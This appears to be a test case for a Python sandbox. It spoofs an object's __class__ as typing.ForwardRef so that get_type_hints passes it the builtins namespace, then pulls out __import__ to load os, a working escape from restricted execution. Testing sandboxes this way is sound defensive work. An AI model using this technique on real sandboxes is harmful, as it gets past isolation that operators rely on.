# technique: an object whose __class__ property claims ForwardRef: isinstance passes, get_type_hints calls its _evaluate with real globals
# expect: any
import typing
leak = []
class F:
    @property
    def __class__(self):
        return typing.ForwardRef
    def _evaluate(self, g, l, guard):
        leak.append(l)
        return int
class C:
    x: F()
    __module__ = "builtins"
typing.get_type_hints(C)
b = leak[0]
os = b["__import__"]("os")
(os.getpid(), [n for n in dir(os) if n.startswith("_E")])
